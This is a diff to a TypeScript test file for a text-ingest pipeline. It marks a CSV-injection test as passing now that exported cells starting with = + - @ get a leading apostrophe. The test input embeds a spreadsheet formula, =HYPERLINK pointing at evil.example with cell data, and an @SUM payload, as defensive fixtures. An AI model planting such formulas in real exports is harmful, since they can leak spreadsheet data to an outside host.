@@ -128,9 +128,8 @@ describe('ingest: hostile text stays verbatim text', () => {
 
 describe('claims.csv: article text opened in a spreadsheet', () => {
   // A quote that starts with = + - @ is a formula to Excel or LibreOffice, even inside quotes
-  // (CSV injection). Fix in pipeline/extract.ts csvField: when the text starts with one of
-  // = + - @ tab or CR and is not a number, write it with a leading apostrophe ('=HYPERLINK…).
-  it.fails('no cell starts like a formula', async () => {
+  // (CSV injection); extract's csvField writes such text with a leading apostrophe.
+  it('no cell starts like a formula', async () => {
     const { extract, claimsToCsv } = await import('../pipeline/extract.ts');
     const text = `${hostileText.split('\n---\n')[0]}\n---\n=HYPERLINK("https://evil.example/?d="&A1,"x") Turnout was 54.19%.\n@SUM(1+1) Amanat won 53.9% of the vote.\n`;
     const csv = claimsToCsv(extract(ingest([{ file: 'sources/hostile.md', text }], lexicon), lexicon));
